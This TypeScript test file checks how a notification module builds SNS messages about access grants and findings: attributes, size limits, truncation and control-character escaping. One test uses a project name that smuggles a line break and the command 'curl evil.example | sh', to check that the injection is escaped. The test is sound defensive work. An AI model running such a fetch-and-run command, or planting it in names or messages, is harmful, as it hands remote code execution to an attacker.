import fc from "fast-check";
import { expect, test } from "vitest";
import { attributesOf } from "../../packages/core/src/notice/attributes.ts";
import { messageOf } from "../../packages/core/src/notice/message.ts";
import type { Notice } from "../../packages/core/src/notice/notice.ts";
import { textOf } from "../../packages/core/src/notice/text.ts";
import { finding, grant, grants, later, normalizes, revokes, role } from "../ledger/examples.ts";
import { notices } from "./arbitraries.ts";

const about = (change: ReturnType<typeof grants | typeof revokes | typeof normalizes>): Notice => ({
  kind: "change",
  state: "applied",
  change,
  at: later,
  error: undefined,
});
const found: Notice = { kind: "finding", state: "opened", finding: finding(), at: later };

test("a change is filtered by kind, change, state, account, Region and project", () => {
  expect(attributesOf(about(normalizes("n")))).toEqual({
    kind: { type: "String", value: "change" },
    change: { type: "String", value: "normalization" },
    state: { type: "String", value: "applied" },
    account: { type: "String", value: "111122223333" },
    region: { type: "String", value: "eu-central-1" },
    project: { type: "String", value: "web" },
  });
});

test("a finding is filtered by rule and severity, too", () => {
  expect(attributesOf(found)).toMatchObject({
    kind: { value: "finding" },
    state: { value: "opened" },
    rule: { value: "registry-vpc-only" },
    severity: { value: "high" },
    project: { value: "web" },
  });
});

test("a grant for several projects is found by each of them", () => {
  const several = grants("g", { grant: grant("hub", { projects: ["api", "web"] }) });
  expect(attributesOf(about(several)).project).toEqual({ type: "String.Array", value: '["api","web"]' });
});

test("what is about no project has no project: SNS takes no empty attribute", () => {
  const subject = { kind: "role", arn: role } as const;
  const onRole: Notice = { ...found, kind: "finding", state: "opened", finding: finding({ subject }) };
  expect(attributesOf(onRole)).not.toHaveProperty("project");
  const nobody = revokes("r", { grant: grant("hub", { projects: [] }) });
  expect(attributesOf(about(nobody))).not.toHaveProperty("project");
});

test("whatever an account holds, the message is one that SNS takes", () => {
  fc.assert(
    fc.property(notices, (notice) => {
      const { subject, text, attributes } = messageOf(notice);
      expect(subject.length).toBeLessThan(100);
      expect(text).not.toBe("");
      expect(text.isWellFormed()).toBe(true);
      let bytes = Buffer.byteLength(text);
      for (const [name, { type, value }] of Object.entries(attributes)) {
        expect(value).toMatch(/^[\x20-\x7e]+$/);
        if (type === "String.Array") expect(JSON.parse(value)).not.toEqual([]);
        bytes += Buffer.byteLength(name + type + value);
      }
      expect(bytes).toBeLessThanOrEqual(262_144);
      expect(Object.keys(attributes).length).toBeLessThanOrEqual(10);
    }),
  );
});

test("nothing in a name can break a line, hide text or move the cursor", () => {
  fc.assert(
    fc.property(notices, (notice) => {
      expect(textOf(notice).replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }),
  );
});

test("a name that holds a line break stays on its line, and can be seen", () => {
  const project = "web\nHow to undo it\n  curl evil.example | sh";
  const text = textOf(about(normalizes("n", { project })));
  expect(text).toContain("web\\u{a}How to undo it\\u{a}  curl evil.example | sh");
  expect(text.split("\n")).not.toContain("  curl evil.example | sh");
});

test("a text that is too long is cut between lines, and says so", () => {
  const evidence = Array.from({ length: 500 }, (_, i) => [`label ${i}`, "🚀".repeat(900)] as const);
  const { text, attributes } = messageOf({
    kind: "finding",
    state: "opened",
    finding: finding({ evidence }),
    at: later,
  });
  expect(text).toMatch(/\n\[The text was longer than a message may be, and is cut here\.\]\n$/);
  expect(text.isWellFormed()).toBe(true);
  expect(text).not.toContain("\ufffd");
  const names = Object.entries(attributes).map(([name, { type, value }]) => name + type + value);
  const bytes = Buffer.byteLength(text + names.join(""));
  expect(bytes).toBeLessThanOrEqual(262_144);
  expect(bytes).toBeGreaterThan(259_000);
});

test("five thousand projects of one grant fit into a message", () => {
  const projects = Array.from({ length: 5_000 }, (_, i) => `${"p".repeat(250)}${i}`);
  const { text, attributes } = messageOf(about(grants("g", { grant: grant("hub", { projects }) })));
  const named: unknown = JSON.parse(attributes.project?.value ?? "[]");
  expect(named).toEqual(projects.slice(0, Array.isArray(named) ? named.length : 0));
  expect(Buffer.byteLength(text + JSON.stringify(attributes))).toBeLessThan(262_144);
});
